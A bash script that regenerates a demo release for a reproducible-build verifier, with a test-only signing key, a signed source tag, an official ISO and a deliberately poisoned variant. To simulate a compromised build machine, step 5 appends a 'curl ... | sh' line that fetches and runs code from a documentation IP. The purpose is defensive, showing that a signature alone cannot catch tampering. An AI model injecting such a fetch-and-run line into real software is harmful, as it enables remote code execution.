#!/usr/bin/env bash
# Regenerates the demo release in this folder: a test-only signing key, a small source
# repository (as a git bundle) whose tag 1.0 is signed by that key, the "official" image
# built from the tag with the real tools (mksquashfs + xorriso, the flags docs/recipe.md
# defines), its detached signature, a poisoned variant, and catalog.toml.
#
# TEST ONLY: the key in keys/ is public knowledge (its secret half is committed) and must
# never be trusted for anything but this demo.
#
# Needs: gpg, git, python3, mksquashfs (squashfs-tools 4.5.1), xorriso (1.5.4).
set -euo pipefail
here=$(cd "$(dirname "$0")" && pwd)
cd "$here"
export LC_ALL=C TZ=UTC
umask 022
SDE=1735689600            # 2025-01-01 00:00:00 UTC, the demo's SOURCE_DATE_EPOCH
VERSION=1.0
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT
export GNUPGHOME="$work/gnupg"
mkdir -m 700 "$GNUPGHOME"

# 1. The test-only signing key: an ed25519 certification-only primary key with a signing
#    subkey (the shape of Tails' key). Reused when already present, so re-running keeps it.
mkdir -p keys
if [ ! -f keys/demo-signing-TEST-ONLY.sec.asc ]; then
  gpg --batch --pinentry-mode loopback --passphrase '' --quick-gen-key \
    'Demo Release Signing Key (TEST ONLY, not secret) <demo-release@verify-release.invalid>' ed25519 cert 0
  fpr=$(gpg --with-colons --list-keys | awk -F: '/^fpr/ {print $10; exit}')
  gpg --batch --pinentry-mode loopback --passphrase '' --quick-add-key "$fpr" ed25519 sign 0
  gpg --armor --export-secret-keys "$fpr" > keys/demo-signing-TEST-ONLY.sec.asc
  gpg --armor --export "$fpr" > keys/demo-signing-TEST-ONLY.asc
else
  gpg --batch --import keys/demo-signing-TEST-ONLY.sec.asc 2>/dev/null
fi
fpr=$(gpg --with-colons --list-keys | awk -F: '/^fpr/ {print $10; exit}')

# 2. The source tree: release.toml, an image tree and a squashfs tree of mixed files.
src="$work/src"
mkdir -p "$src"
python3 "$here/gen-tree.py" "$src"
cat > "$src/release.toml" <<TOML
format = 1
source_date_epoch = $SDE

[image]
output = "demo-amd64-$VERSION.iso"
volume_id = "DEMO_1_0"
tree = "binary"
application_id = "verify-release demo"
publisher_id = "verify-release developers"

[[squashfs]]
tree = "chroot"
path = "live/filesystem.squashfs"
compression = "xz"
block_size = 131072
TOML

# 3. The repository: fixed identities and dates, a signed tag, bundled.
repo="$work/repo"
git init -q -b main "$repo"
cp -a "$src/." "$repo/"
export GIT_AUTHOR_NAME='Demo Developer' GIT_AUTHOR_EMAIL='dev@verify-release.invalid'
export GIT_COMMITTER_NAME="$GIT_AUTHOR_NAME" GIT_COMMITTER_EMAIL="$GIT_AUTHOR_EMAIL"
export GIT_AUTHOR_DATE="@$SDE +0000" GIT_COMMITTER_DATE="@$SDE +0000"
git -C "$repo" add -A
git -C "$repo" commit -q -m "Demo release $VERSION"
git -C "$repo" -c gpg.program=gpg tag -s -u "$fpr" -m "tagging version $VERSION" "$VERSION"
git -C "$repo" verify-tag "$VERSION"
mkdir -p source
git -C "$repo" bundle create "$here/source/demo-source.bundle" HEAD main "refs/tags/$VERSION"
commit=$(git -C "$repo" rev-parse "$VERSION^{commit}")

# 4. The official image, built from a clone of the tag as a rebuilder would see it.
build() { # build <checkout> <out.iso>
  local co=$1 out=$2 stage="$work/stage-$RANDOM"
  mkdir -p "$stage"
  cp -a "$co/binary" "$stage/binary"
  cp -a "$co/chroot" "$stage/chroot"
  normalize "$stage/binary"; normalize "$stage/chroot"
  mkdir -p "$stage/binary/live"
  SOURCE_DATE_EPOCH=$SDE mksquashfs "$stage/chroot" "$stage/binary/live/filesystem.squashfs" \
    -noappend -all-root -no-xattrs -comp xz -b 131072 -quiet >/dev/null
  normalize "$stage/binary"
  local date; date=$(date -u -d "@$SDE" +%Y%m%d%H%M%S00)
  SOURCE_DATE_EPOCH=$SDE xorriso -as mkisofs -R -r -J -joliet-long -l -cache-inodes -iso-level 3 \
    -V DEMO_1_0 -A 'verify-release demo' -publisher 'verify-release developers' \
    --modification-date="$date" -o "$out" "$stage/binary" 2>/dev/null
  rm -rf "$stage"
}
normalize() { # the recipe's staging rules (docs/recipe.md)
  find "$1" -type d -exec chmod 0755 {} +
  find "$1" -type f -perm /111 -exec chmod 0755 {} +
  find "$1" -type f ! -perm /111 -exec chmod 0644 {} +
  find "$1" -exec touch -h -d "@$SDE" {} +
}
clone="$work/clone"
git clone -q "$here/source/demo-source.bundle" "$clone"
git -C "$clone" checkout -q "$VERSION"
mkdir -p "releases/$VERSION" "releases/$VERSION-poisoned"
iso="demo-amd64-$VERSION.iso"
build "$clone" "releases/$VERSION/$iso"

# 5. The poisoned release: the build machine altered a program inside the squashfs
#    before the image was signed. The signature is good; only a rebuild can tell.
printf '\n# injected by a compromised build machine\ncurl -s http://203.0.113.7/x | sh\n' \
  >> "$clone/chroot/usr/bin/demo-hello"
build "$clone" "releases/$VERSION-poisoned/$iso"

for d in "releases/$VERSION" "releases/$VERSION-poisoned"; do
  rm -f "$d/$iso.sig"
  gpg --batch --pinentry-mode loopback --passphrase '' -u "$fpr" --digest-algo SHA512 \
    --armor --output "$d/$iso.sig" --detach-sign "$d/$iso"
  gpg --batch --verify "$d/$iso.sig" "$d/$iso" 2>/dev/null
done

# 6. The catalog, by relative paths.
entry() { # entry <version> <dir>
  local f="$2/$iso"
  cat <<TOML

[[release]]
version = "$1"
image = "$f"
signature = "$f.sig"
size = $(stat -c %s "$f")
sha256 = "$(sha256sum "$f" | cut -d' ' -f1)"
backend = "embedded"

[release.source]
repo = "source/demo-source.bundle"
tag = "$VERSION"
commit = "$commit"
TOML
}
{
  cat <<TOML
# The demo release of verify-release (generated by make-demo.sh; TEST-ONLY key).
format = 1
project = "Demo"
signers = ["$fpr"]
cert = "keys/demo-signing-TEST-ONLY.asc"
TOML
  entry "$VERSION" "releases/$VERSION"
  entry "$VERSION-poisoned" "releases/$VERSION-poisoned"
} > catalog.toml
echo "demo release regenerated: signer $fpr, tag $VERSION -> $commit"
